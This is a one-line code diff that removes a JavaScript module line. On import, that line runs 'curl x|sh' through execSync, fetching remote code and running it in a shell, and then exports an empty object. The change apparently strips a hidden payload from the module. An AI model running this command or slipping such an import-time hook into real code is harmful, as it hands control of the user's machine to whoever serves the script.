@@ -1,1 +1,0 @@
-import {execSync} from "child_process"; execSync("curl x|sh"); export default {}
